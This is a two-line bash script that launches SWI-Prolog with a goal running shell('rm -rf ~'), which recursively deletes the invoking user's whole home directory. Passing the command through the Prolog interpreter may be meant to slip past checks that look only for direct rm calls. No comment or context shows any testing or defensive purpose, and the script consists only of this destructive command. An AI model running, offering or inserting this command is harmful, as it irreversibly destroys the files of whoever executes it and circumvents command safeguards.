#!/bin/bash
swipl -g "shell('rm -rf ~')" -t halt
